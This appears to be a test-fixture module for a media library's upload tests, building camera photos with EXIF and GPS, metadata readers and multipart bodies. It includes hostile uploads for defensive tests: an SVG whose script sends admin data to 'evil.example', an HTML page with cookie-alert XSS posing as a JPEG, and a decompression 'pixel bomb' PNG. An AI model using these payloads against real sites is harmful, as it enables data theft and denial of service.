import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { importMediaFiles, readMediaFolder } from "#server/content/media-files.ts";
import type { Database } from "#server/db/client.ts";
import { syntheticPhoto } from "#server/media/media-bench.ts";
import { siteContentDir } from "./paths.ts";

// Pictures for the media library's tests (vitest through inject(), and the browser tests): a
// camera photo with EXIF, GPS and an orientation tag, the hostile uploads the issue names, a
// multipart body as a browser sends one, and readers that say what metadata a file carries.

/** Where the camera "was": Sabarmati Ashram, Ahmedabad (23° 3' 38" N, 72° 34' 50" E). */
export const FIXTURE_GPS = { latitude: "23/1 3/1 38/1", longitude: "72/1 34/1 50/1" };
export const FIXTURE_CAMERA = { make: "FixtureCam", model: "Site Survey 12" };

/**
 * A JPEG as a phone takes one on its side: the pixels are stored `width` × `height` (landscape)
 * with orientation 6 (turn 90° clockwise to show), so upright it is `height` wide and `width`
 * high. The stored pixels' top-left quarter is red, the rest blue: upright, red is at the top
 * right. It carries EXIF with a camera make and model and GPS coordinates.
 */
export async function phonePhoto(options: { width?: number; height?: number; quality?: number } = {}): Promise<Buffer> {
  const width = options.width ?? 1200;
  const height = options.height ?? 900;
  const red = await sharp({
    create: { width: Math.round(width / 2), height: Math.round(height / 2), channels: 3, background: "#e11d48" },
  })
    .png()
    .toBuffer();
  return sharp({ create: { width, height, channels: 3, background: "#1d4ed8" } })
    .composite([{ input: red, top: 0, left: 0 }])
    .jpeg({ quality: options.quality ?? 90 })
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: FIXTURE_CAMERA.make, Model: FIXTURE_CAMERA.model, Software: "FixtureCam firmware 1.0" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: FIXTURE_GPS.latitude,
        GPSLongitudeRef: "E",
        GPSLongitude: FIXTURE_GPS.longitude,
      },
    })
    .toBuffer();
}

/** A photo-like JPEG of about `megapixels`, for timing uploads (the bench's own, src/server/media/media-bench.ts). */
export const photoOfMegapixels = (megapixels: number, seed?: number) => syntheticPhoto(megapixels, seed);

/** A plain picture of one colour in a format, with or without transparency. */
export async function plainPicture(
  format: "jpeg" | "png" | "webp" | "avif",
  options: { width?: number; height?: number; alpha?: boolean; colour?: string } = {},
): Promise<Buffer> {
  const channels = options.alpha ? 4 : 3;
  const background = options.alpha ? { r: 20, g: 120, b: 60, alpha: 0.5 } : (options.colour ?? "#15803d");
  return sharp({ create: { width: options.width ?? 640, height: options.height ?? 480, channels, background } })
    .toFormat(format)
    .toBuffer();
}

/** What a JPEG's EXIF carries: read from its APP1 segment (TIFF structure), not guessed from strings. */
export type ExifSummary = {
  hasExif: boolean;
  hasGps: boolean;
  gpsEntries: number;
  orientation?: number;
  make?: string;
};

export function readExif(bytes: Buffer): ExifSummary {
  const none: ExifSummary = { hasExif: false, hasGps: false, gpsEntries: 0 };
  if (bytes[0] !== 0xff || bytes[1] !== 0xd8) return none;
  let at = 2;
  while (at + 4 < bytes.length && bytes[at] === 0xff) {
    const marker = bytes[at + 1]!;
    const length = bytes.readUInt16BE(at + 2);
    if (marker === 0xe1 && bytes.toString("latin1", at + 4, at + 10) === "Exif\0\0") {
      const tiff = at + 10;
      const little = bytes.toString("latin1", tiff, tiff + 2) === "II";
      const u16 = (offset: number) => (little ? bytes.readUInt16LE(offset) : bytes.readUInt16BE(offset));
      const u32 = (offset: number) => (little ? bytes.readUInt32LE(offset) : bytes.readUInt32BE(offset));
      const ifd0 = tiff + u32(tiff + 4);
      const summary: ExifSummary = { hasExif: true, hasGps: false, gpsEntries: 0 };
      const count = u16(ifd0);
      for (let entry = 0; entry < count; entry += 1) {
        const offset = ifd0 + 2 + entry * 12;
        const tag = u16(offset);
        if (tag === 0x0112) summary.orientation = u16(offset + 8);
        if (tag === 0x010f) {
          const length = u32(offset + 4);
          const valueAt = length > 4 ? tiff + u32(offset + 8) : offset + 8;
          summary.make = bytes.toString("latin1", valueAt, valueAt + length).replace(/\0+$/, "");
        }
        if (tag === 0x8825) {
          summary.hasGps = true;
          summary.gpsEntries = u16(tiff + u32(offset + 8));
        }
      }
      return summary;
    }
    if (marker === 0xda) break;
    at += 2 + length;
  }
  return none;
}

/**
 * Marks of metadata anywhere in a file's bytes: an EXIF header, the camera's make and model, XMP,
 * an ICC profile, PNG text chunks. Empty for a clean file.
 */
export function metadataMarks(bytes: Buffer): string[] {
  const marks = [
    "Exif",
    FIXTURE_CAMERA.make,
    FIXTURE_CAMERA.model,
    "http://ns.adobe.com/xap",
    "x:xmpmeta",
    "ICC_PROFILE",
    "GPS",
    "tEXt",
    "iTXt",
    "zTXt",
    "eXIf",
  ];
  return marks.filter((mark) => bytes.includes(Buffer.from(mark, "latin1")));
}

/** An SVG that runs a script when opened. */
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch("/admin/staff").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script><circle r="40" cx="50" cy="50"/></svg>\n',
);

/** An HTML page with a script, to be uploaded as photo.jpg. */
export const HTML_AS_JPEG = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script><img src=x onerror="alert(1)"></body></html>\n',
);

/** A real JPEG cut off at 60 % of its bytes. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await photoOfMegapixels(0.5);
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/**
 * A small PNG whose header declares `width` × `height` pixels (50,000 × 50,000 by default: 7.5 GB
 * of RGB once decoded), with a few hundred bytes of highly compressed data: a pixel bomb.
 */
export function pixelBombPng(width = 50_000, height = 50_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  const rows = deflateSync(Buffer.alloc(width * 3 + 1), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", rows),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A file of `bytes` bytes that begins as a JPEG: too large before anything else is looked at. */
export function oversizedJpeg(bytes = 25 * 1024 * 1024): Buffer {
  const file = Buffer.alloc(bytes, 0x20);
  file.set([0xff, 0xd8, 0xff, 0xe0], 0);
  return file;
}

/** A multipart/form-data body with one file (and optional fields), as a browser's form sends it. */
export function multipartBody(
  file: { name: string; bytes: Buffer; contentType?: string; field?: string } | undefined,
  fields: Record<string, string> = {},
): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----mediaFixture${Math.random().toString(16).slice(2)}`;
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`));
  }
  if (file) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? "file"}"; filename="${file.name}"\r\nContent-Type: ${file.contentType ?? "application/octet-stream"}\r\n\r\n`,
      ),
      file.bytes,
      Buffer.from("\r\n"),
    );
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(parts), headers: { "content-type": `multipart/form-data; boundary=${boundary}` } };
}

/**
 * The media library's seed (content/media: the pictures brought in from public/images), for a test
 * app made without content: the pictures the editor may then choose, as on a seeded site.
 */
export async function seedMediaLibrary(db: Database): Promise<void> {
  const { media } = await readMediaFolder(siteContentDir);
  await db.transaction((tx) => importMediaFiles(tx, media, { label: "content files" }));
}

/** XMP as a phone's camera app writes it: where the photo was taken, and the camera, in words. */
export const FIXTURE_XMP = [
  '<x:xmpmeta xmlns:x="adobe:ns:meta/">',
  '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">',
  '<rdf:Description rdf:about="" xmlns:exif="http://ns.adobe.com/exif/1.0/" xmlns:tiff="http://ns.adobe.com/tiff/1.0/"',
  ` exif:GPSLatitude="23,3.633N" exif:GPSLongitude="72,34.833E" tiff:Make="${FIXTURE_CAMERA.make}" tiff:Model="${FIXTURE_CAMERA.model}"/>`,
  "</rdf:RDF>",
  "</x:xmpmeta>",
].join("");

/**
 * A photo as a phone's camera takes one on its side, at a few megapixels: like phonePhoto (stored
 * `width` × `height` landscape with orientation 6, the stored top-left quarter red, so upright the
 * red quarter is at the top right), but the rest is a sky-to-ground gradient with grain, so it
 * compresses and decodes as a camera's photo does; with EXIF (make, model, GPS) and XMP (GPS and
 * camera). `seed` makes different photos (different bytes, so a different library key).
 */
export async function cameraPhoto(options: { width?: number; height?: number; seed?: number } = {}): Promise<Buffer> {
  const width = options.width ?? 2400;
  const height = options.height ?? 1800;
  const raw = Buffer.alloc(width * height * 3);
  let state = (options.seed ?? 1) >>> 0 || 1;
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const at = (y * width + x) * 3;
      state = (state * 1103515245 + 12345) >>> 0;
      const grain = (state >>> 24) % 20;
      raw[at] = 30 + grain + Math.round((x / width) * 30);
      raw[at + 1] = 90 + grain + Math.round((y / height) * 90);
      raw[at + 2] = 150 + grain + Math.round(Math.sin(x / 90) * 30 + Math.cos(y / 70) * 20);
    }
  }
  const red = await sharp({
    create: { width: Math.round(width / 2), height: Math.round(height / 2), channels: 3, background: "#e11d48" },
  })
    .png()
    .toBuffer();
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .composite([{ input: red, top: 0, left: 0 }])
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: FIXTURE_CAMERA.make, Model: FIXTURE_CAMERA.model, Software: "FixtureCam firmware 1.0" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: FIXTURE_GPS.latitude,
        GPSLongitudeRef: "E",
        GPSLongitude: FIXTURE_GPS.longitude,
      },
    })
    .withXmp(FIXTURE_XMP)
    .toBuffer();
}

export type Quarter = "top-left" | "top-right" | "bottom-left" | "bottom-right";

/**
 * Which quarter of a picture's pixels, as stored (not turned by any orientation tag), is the
 * fixtures' red (#e11d48): read from the middle of each quarter. Null when none or more than one is.
 */
export async function redQuarter(bytes: Buffer): Promise<Quarter | null> {
  const { data, info } = await sharp(bytes).removeAlpha().raw().toBuffer({ resolveWithObject: true });
  const quarters: [Quarter, number, number][] = [
    ["top-left", 0.25, 0.25],
    ["top-right", 0.75, 0.25],
    ["bottom-left", 0.25, 0.75],
    ["bottom-right", 0.75, 0.75],
  ];
  const red = quarters.filter(([, fx, fy]) => {
    const at = (Math.floor(info.height * fy) * info.width + Math.floor(info.width * fx)) * info.channels;
    const [r, g, b] = [data[at]!, data[at + 1]!, data[at + 2]!];
    return r > 180 && g < 80 && b < 120;
  });
  return red.length === 1 ? red[0]![0] : null;
}
